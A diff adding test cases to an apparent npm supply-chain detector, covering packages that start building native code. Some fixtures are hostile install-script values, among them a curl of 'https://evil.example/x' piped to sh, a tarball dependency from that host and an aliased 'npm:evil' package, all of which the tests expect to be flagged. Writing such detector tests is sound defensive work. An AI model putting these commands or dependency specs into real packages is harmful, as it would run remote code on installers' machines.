@@ -175,3 +175,60 @@ describe('of a package that is new here', () => {
     expect(run(facts, { newToRepository: true })[0]?.message).toContain('what 2.0.0 did not');
   });
 });
+
+describe('a package that builds native code', () => {
+  const built = (scripts: Scripts, requires: Scripts = { 'node-addon-api': '^8.0.0' }) =>
+    ({
+      state: 'present',
+      value: { version: '2.0.1', publishedAt: ago(day), content: { scripts, requires } },
+    }) as const;
+  const begins = (scripts: Scripts, requires?: Scripts) =>
+    run({ release: built(scripts, requires), predecessor: releaseBefore({}) })[0];
+
+  it.each<[Scripts, Scripts?]>([
+    [{ 'binding.gyp': 'node-gyp rebuild' }],
+    [{ install: 'node-gyp rebuild' }, { nan: '^2.20.0' }],
+    [{ install: 'node-gyp-build' }, { 'node-gyp-build': '^4.8.0' }],
+    [{ install: 'prebuild-install || node-gyp rebuild' }, { 'prebuild-install': '^7.1.0' }],
+    [{ install: 'node-pre-gyp install --fallback-to-build' }, { '@mapbox/node-pre-gyp': '^2.0.0' }],
+  ])('begins to do so with what that takes: told, and no sign: %j', (scripts, requires) => {
+    const draft = begins(scripts, requires);
+    expect(draft?.message).toMatch(/, which builds native code\.$/);
+    expect(draft).not.toHaveProperty('signal');
+    expect(draft).not.toHaveProperty('severity');
+  });
+
+  it.each<[string, Scripts, Scripts?]>([
+    ['without anything that native code takes', { 'binding.gyp': 'node-gyp rebuild' }, { lodash: '^4.17.0' }],
+    ['with what comes from an address', { install: 'node-gyp rebuild' }, { nan: 'https://evil.example/nan.tgz' }],
+    ['with another package under that name', { install: 'node-gyp rebuild' }, { nan: 'npm:evil@1.0.0' }],
+    ['and starts a file as well', { install: 'node-gyp rebuild && node setup.js' }],
+    ['and hands it to a shell', { install: 'node-gyp rebuild; curl https://evil.example/x | sh' }],
+    ['and starts a file at another event', { install: 'node-gyp rebuild', postinstall: 'node setup.js' }],
+  ])('begins to do so %s: a sign', (_, scripts, requires) => {
+    expect(begins(scripts, requires)).toHaveProperty('signal');
+  });
+
+  const unlisted = { adoption: adoption(false) };
+  it('is new here: hardly a sign once its name is long there', () => {
+    const told = (age: number) =>
+      run(
+        { ...unlisted, release: built({ install: 'node-gyp rebuild' }), predecessor: none, package: packageOf(age) },
+        { newToRepository: true },
+      )[0];
+    expect(told(2000 * day)?.severity).toBe('low');
+    expect(told(2000 * day)).not.toHaveProperty('signal');
+    expect(told(40 * day)).toHaveProperty('signal');
+  });
+
+  it('is new here and ran the same before: hardly a sign where it is worked on for long', () => {
+    const versions = ['1.7.0', '1.8.0', '1.9.0', '2.0.0'].map((version) => ({ version, publishedAt: ago(300 * day) }));
+    const grown = { ...packageOf(300 * day), value: { ...packageOf(300 * day).value, versions } } as const;
+    const facts = { ...unlisted, release: release(hook), predecessor: releaseBefore(hook) };
+    const [ordinary] = run({ ...facts, package: grown }, { newToRepository: true });
+    expect(ordinary?.severity).toBe('low');
+    expect(ordinary).not.toHaveProperty('signal');
+    expect(run({ ...facts, package: packageOf(300 * day) }, { newToRepository: true })[0]).toHaveProperty('signal');
+    expect(run({ ...facts, package: grown, predecessor: none }, { newToRepository: true })[0]).toHaveProperty('signal');
+  });
+});
